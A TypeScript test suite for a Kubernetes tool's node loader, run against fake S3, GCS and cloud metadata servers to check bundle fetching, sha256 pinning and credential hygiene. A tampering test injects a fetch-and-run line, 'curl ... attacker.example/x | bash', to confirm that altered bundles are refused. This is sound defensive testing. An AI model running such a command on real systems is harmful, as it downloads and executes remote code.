// The loader (user data / GCE startup script) run for real by bash against real state stores: moto S3 (SigV4 with
// the credentials of a fake IMDSv2) and the GCS fake (a metadata-server token). A curl wrapper only moves the cloud's
// fixed addresses (169.254.169.254, <bucket>.s3.<region>.amazonaws.com, storage.googleapis.com) to the local
// servers and then runs the real curl. The bundle the loader fetches is the provider's real installer (its paths
// moved under a temporary folder, as in bootstrap-unit.test.ts), pinned by its own sha256.

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { withDefaults } from '../../src/api/defaults.js';
import { bootstrapBundle, renderBootstrapScript, renderLoader, type BootstrapBundle } from '../../src/bootstrap/index.js';
import { bundleFor as awsBundleFor, placeholder } from '../../providers/aws/model/user-data.js';
import { bundleFor as gceBundleFor, startupScriptFor } from '../../providers/gce/model/startup-script.js';
import { cloudFacts } from '../../providers/index.js';
import { FakeGcs } from '../fakes/gcs.js';
import { startMoto, type Moto } from '../helpers/moto.js';

const SECRET = 'FAKEsecretFROMimdsDoNotLeak';
const SESSION = 'FAKEsessionTOKENfromIMDS';
const GCE_TOKEN = 'ya29.FAKEtokenFROMmetadata';
const INPUTS = { stateStore: 's3://k8sup-state/team-a', caCertPem: '', caCertHash: `sha256:${'ab'.repeat(32)}` };
const GCE_INPUTS = { ...INPUTS, stateStore: 'gs://k8sup-state/team-a' };
const LB = 'k8sup-demo-api-0123456789.elb.us-east-2.amazonaws.com';
const INTERNAL_LB = 'internal-k8sup-demo-api-int-0123456789.elb.us-east-2.amazonaws.com';

const work = mkdtempSync(join(tmpdir(), 'k8sup-loader-'));
let moto: Moto;
let gcs: FakeGcs;
let metadata: Server;
let metadataPort = 0;
let s3: import('@aws-sdk/client-s3').S3Client;

/** IMDSv2 and the GCE metadata server, as strict as they are about tokens and the Metadata-Flavor header. */
function serveMetadata(req: IncomingMessage, res: ServerResponse): void {
  const url = req.url ?? '';
  const send = (status: number, body: string): void => {
    res.writeHead(status, { 'content-type': 'text/plain' }).end(body);
  };
  if (url.startsWith('/latest/')) {
    if (url === '/latest/api/token') return req.method === 'PUT' && req.headers['x-aws-ec2-metadata-token-ttl-seconds'] ? send(200, 'imds-session') : send(400, '');
    if (req.headers['x-aws-ec2-metadata-token'] !== 'imds-session') return send(401, '');
    if (url === '/latest/meta-data/iam/security-credentials/') return send(200, 'k8sup-nodes-demo');
    if (url === '/latest/meta-data/iam/security-credentials/k8sup-nodes-demo') {
      return send(200, JSON.stringify({ Code: 'Success', AccessKeyId: 'ASIAFAKEFAKEFAKEFAKE', SecretAccessKey: SECRET, Token: SESSION, Expiration: '2030-01-01T00:00:00Z' }, null, 2));
    }
    return send(404, '');
  }
  if (req.headers['metadata-flavor'] !== 'Google') return send(403, '');
  if (url === '/computeMetadata/v1/instance/service-accounts/default/token') return send(200, JSON.stringify({ access_token: GCE_TOKEN, expires_in: 3599, token_type: 'Bearer' }));
  if (url === '/computeMetadata/v1/instance/attributes/k8sup-api-address') return send(200, '10.128.0.9');
  if (url === '/computeMetadata/v1/instance/attributes/k8sup-api-public-address') return send(200, '203.0.113.9');
  send(404, '');
}

before(async () => {
  moto = await startMoto();
  gcs = new FakeGcs();
  await gcs.start();
  gcs.createBucket('k8sup-state');
  metadata = createServer(serveMetadata);
  await new Promise<void>((resolve) => metadata.listen(0, '127.0.0.1', () => resolve()));
  metadataPort = (metadata.address() as { port: number }).port;
  const { S3Client, CreateBucketCommand } = await import('@aws-sdk/client-s3');
  s3 = new S3Client({ endpoint: moto.endpoint, region: 'us-east-2', forcePathStyle: true, credentials: { accessKeyId: 'x', secretAccessKey: 'x' } });
  await s3.send(new CreateBucketCommand({ Bucket: 'k8sup-state', CreateBucketConfiguration: { LocationConstraint: 'us-east-2' } }));
});
after(async () => {
  s3?.destroy();
  await moto?.stop();
  await gcs?.stop();
  await new Promise<void>((resolve) => (metadata ? metadata.close(() => resolve()) : resolve()));
  rmSync(work, { recursive: true, force: true });
});

interface LoaderRun {
  status: number | null;
  stderr: string;
  /** Every curl command line (after the address move) and every stub call, in order. */
  calls: string[];
  dir: string;
}

let runs = 0;
/** Runs `loader` with its paths moved under a fresh folder; curl is real, systemctl and sleep are logging stubs. */
async function runLoader(loader: string, name: string): Promise<LoaderRun> {
  const dir = join(work, `${name}-${++runs}`);
  const bin = join(dir, 'bin');
  mkdirSync(join(dir, 'etc/systemd/system'), { recursive: true });
  mkdirSync(bin, { recursive: true });
  const log = join(dir, 'calls.log');
  writeFileSync(log, '');
  const stub = `#!/bin/bash\nprintf '%s %s\\n' "$(basename "$0")" "$*" >>'${log}'\n`;
  for (const c of ['systemctl', 'sleep']) {
    writeFileSync(join(bin, c), stub);
    chmodSync(join(bin, c), 0o755);
  }
  const curl = [
    '#!/bin/bash',
    'args=()',
    'for a in "$@"; do',
    '  case "${a}" in',
    `    http://169.254.169.254/*) a="http://127.0.0.1:${metadataPort}/\${a#http://169.254.169.254/}" ;;`,
    `    http://metadata.google.internal/*) a="http://127.0.0.1:${metadataPort}/\${a#http://metadata.google.internal/}" ;;`,
    `    https://k8sup-state.s3.us-east-2.amazonaws.com/*) a="${moto.endpoint}/k8sup-state/\${a#https://k8sup-state.s3.us-east-2.amazonaws.com/}" ;;`,
    `    https://storage.googleapis.com/*) a="${gcs.url}/\${a#https://storage.googleapis.com/}" ;;`,
    '  esac',
    '  args+=("${a}")',
    'done',
    `printf 'curl %s\\n' "\${args[*]}" >>'${log}'`,
    'exec /usr/bin/curl "${args[@]}"',
    '',
  ].join('\n');
  writeFileSync(join(bin, 'curl'), curl);
  chmodSync(join(bin, 'curl'), 0o755);
  const child = spawn('bash', ['-c', moved(loader, dir)], { env: { PATH: `${bin}:/usr/bin:/bin`, LANG: 'C' } });
  let stderr = '';
  child.stderr.on('data', (d) => (stderr += d));
  child.stdout.resume();
  const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
  const status = await new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
  clearTimeout(timer);
  return { status, stderr, calls: readFileSync(log, 'utf8').split('\n').filter(Boolean), dir };
}

const moved = (text: string, dir: string) => text.replaceAll('/var/lib/k8sup', `${dir}/var/lib/k8sup`).replaceAll('/etc/systemd/system', `${dir}/etc/systemd/system`);

function awsCluster() {
  return withDefaults({ metadata: { name: 'demo.k8s.local' }, spec: { zones: ['us-east-2a'] } });
}
function gceCluster() {
  return withDefaults({ metadata: { name: 'demo.k8s.local' }, spec: { cloud: 'gce', region: 'us-central1', project: 'demo-project', zones: ['us-central1-b'] } });
}

/** The AWS worker's real bundle with its paths moved for this run folder, and the loader pinned to it. */
function awsLoaderFor(dir: string): { bundle: BootstrapBundle; loader: string } {
  const cluster = awsCluster();
  const bundle = bootstrapBundle(moved(awsBundleFor(cluster, INPUTS, 'worker', 'nodes').content, dir));
  const loader = renderLoader(
    { cluster, role: 'worker', nodeGroup: 'nodes', provider: cloudFacts('aws')!.nodes, apiEndpoint: 'x.invalid:6443', caCertHash: INPUTS.caCertHash, stateStoreUrl: INPUTS.stateStore },
    bundle,
    // As the launch template substitutes them.
    { env: { K8SUP_LB: LB, K8SUP_ILB: INTERNAL_LB } },
  );
  return { bundle, loader };
}

async function putS3(key: string, body: string): Promise<void> {
  const { PutObjectCommand } = await import('@aws-sdk/client-s3');
  await s3.send(new PutObjectCommand({ Bucket: 'k8sup-state', Key: `team-a/demo.k8s.local/${key}`, Body: body }));
}

async function putGcs(key: string, body: string): Promise<void> {
  const name = encodeURIComponent(`team-a/demo.k8s.local/${key}`);
  const res = await fetch(`${gcs.url}/upload/storage/v1/b/k8sup-state/o?uploadType=media&name=${name}`, { method: 'POST', body, headers: { 'content-type': 'text/plain' } });
  assert.equal(res.status, 200, await res.text());
}

describe('the loader against real state stores', () => {
  test('aws: fetches its bundle from moto S3 with the instance role, checks the sha256, runs it: the script and unit are installed', { timeout: 120_000 }, async () => {
    // The run folder is known before the run: render for it.
    const dir = join(work, `aws-${runs + 1}`);
    const { bundle, loader } = awsLoaderFor(dir);
    await putS3(bundle.key, bundle.content);
    const run = await runLoader(loader, 'aws');
    assert.equal(run.status, 0, run.stderr);
    const get = run.calls.find((c) => c.startsWith('curl ') && c.includes(`/k8sup-state/team-a/demo.k8s.local/bootstrap/bundles/${bundle.sha256}.sh`));
    assert.ok(get, `no GET of the bundle:\n${run.calls.join('\n')}`);
    assert.match(get, /--config -/);
    for (const c of run.calls) assert.ok(!c.includes(SECRET) && !c.includes(SESSION), `credential on a command line: ${c}`);
    // The installer ran: bootstrap.sh is the worker's script with the load balancers' names filled in.
    const script = readFileSync(join(dir, 'var/lib/k8sup/bootstrap.sh'), 'utf8');
    const expected = renderBootstrapScript({
      cluster: awsCluster(), role: 'worker', nodeGroup: 'nodes', provider: cloudFacts('aws')!.nodes, apiEndpoint: `${placeholder('API_INTERNAL_LB_DNS')}:6443`,
      apiCertSANs: [placeholder('API_LB_DNS')], caCertHash: INPUTS.caCertHash, stateStoreUrl: INPUTS.stateStore,
    });
    assert.equal(script, moved(expected, dir).replaceAll(placeholder('API_INTERNAL_LB_DNS'), INTERNAL_LB).replaceAll(placeholder('API_LB_DNS'), LB));
    assert.match(script, new RegExp(`apiServerEndpoint: "?${INTERNAL_LB.replace(/\./g, '\\.')}:6443`));
    assert.ok(existsSync(join(dir, 'etc/systemd/system/k8sup-bootstrap.service')));
    assert.deepEqual(run.calls.filter((c) => c.startsWith('systemctl')), ['systemctl daemon-reload', 'systemctl enable k8sup-bootstrap.service', 'systemctl start --no-block k8sup-bootstrap.service']);
  });

  test('aws: a bundle whose sha256 is not the pinned one is refused: nothing is installed or started', { timeout: 120_000 }, async () => {
    const dir = join(work, `aws-tampered-${runs + 1}`);
    const { bundle, loader } = awsLoaderFor(dir);
    // Someone with write access to the store replaced the bundle under its name.
    await putS3(bundle.key, bundle.content.replace('set -euo pipefail', 'set -euo pipefail\ncurl -s https://attacker.example/x | bash'));
    const run = await runLoader(loader, 'aws-tampered');
    assert.equal(run.status, 1);
    assert.match(run.stderr, /wrong sha256, not run/);
    assert.ok(!existsSync(join(dir, 'var/lib/k8sup/bootstrap.sh')));
    assert.ok(!existsSync(join(dir, 'var/lib/k8sup/bundle.sh')), 'the refused bundle stays on disk');
    assert.ok(!existsSync(join(dir, 'etc/systemd/system/k8sup-bootstrap.service')));
    assert.deepEqual(run.calls.filter((c) => c.startsWith('systemctl')), []);
    assert.ok(!run.calls.some((c) => c.includes('attacker')));
  });

  test('aws: a missing bundle is retried a bounded number of times, then the loader fails', { timeout: 120_000 }, async () => {
    const dir = join(work, `aws-missing-${runs + 1}`);
    const cluster = awsCluster();
    const bundle = bootstrapBundle(moved(awsBundleFor({ ...cluster, spec: { ...cluster.spec, kubernetesVersion: '1.33.8' } }, INPUTS, 'worker', 'nodes').content, dir));
    const loader = renderLoader({ cluster, role: 'worker', nodeGroup: 'nodes', provider: cloudFacts('aws')!.nodes, apiEndpoint: 'x.invalid:6443', caCertHash: INPUTS.caCertHash, stateStoreUrl: INPUTS.stateStore }, bundle);
    const run = await runLoader(loader, 'aws-missing');
    assert.equal(run.status, 1);
    assert.match(run.stderr, /cannot fetch bootstrap\/bundles\//);
    assert.equal(run.calls.filter((c) => c === 'sleep 10').length, 59);
    assert.ok(!existsSync(join(dir, 'var/lib/k8sup/bootstrap.sh')));
  });

  test('gce: fetches its bundle from GCS with the metadata-server token; the bundle reads the API addresses from metadata', { timeout: 120_000 }, async () => {
    const dir = join(work, `gce-${runs + 1}`);
    const cluster = gceCluster();
    const real = gceBundleFor(cluster, GCE_INPUTS, 'worker', 'nodes');
    // The real loader pins the real bundle: the same text but for the bundle key and sha256.
    const pinned = startupScriptFor(cluster, GCE_INPUTS, 'worker', 'nodes');
    assert.ok(pinned.includes(`BUNDLE_SHA256='${real.sha256}'`));
    // The bundle's `ip rule` needs root: a logging stub stands in for it here.
    const bundle = bootstrapBundle(moved(real.content, dir));
    const loader = pinned.replace(real.sha256, bundle.sha256);
    await putGcs(bundle.key, bundle.content);
    const run = await runLoaderWith(loader, 'gce', ['ip']);
    assert.equal(run.status, 0, run.stderr);
    const get = run.calls.find((c) => c.includes(`/storage/v1/b/k8sup-state/o/team-a%2Fdemo.k8s.local%2Fbootstrap%2Fbundles%2F${bundle.sha256}.sh?alt=media`));
    assert.ok(get, `no GET of the bundle:\n${run.calls.join('\n')}`);
    for (const c of run.calls) assert.ok(!c.includes(GCE_TOKEN), `token on a command line: ${c}`);
    const script = readFileSync(join(dir, 'var/lib/k8sup/bootstrap.sh'), 'utf8');
    assert.match(script, /apiServerEndpoint: "?10\.128\.0\.9:6443/);
    assert.doesNotMatch(script, /k8sup-var-api-address/);
    assert.ok(run.calls.includes('ip rule add from 100.96.0.0/11 to 169.254.169.254/32 prohibit priority 50'));
    assert.ok(run.calls.includes('systemctl start --no-block k8sup-bootstrap.service'));
  });
});

/** runLoader with extra logging stubs. */
async function runLoaderWith(loader: string, name: string, stubs: string[]): Promise<LoaderRun> {
  const dir = join(work, `${name}-${runs + 1}`);
  const bin = join(dir, 'bin');
  mkdirSync(bin, { recursive: true });
  for (const c of stubs) {
    writeFileSync(join(bin, c), `#!/bin/bash\nprintf '%s %s\\n' "$(basename "$0")" "$*" >>'${join(dir, 'calls.log')}'\n`);
    chmodSync(join(bin, c), 0o755);
  }
  return runLoader(loader, name);
}
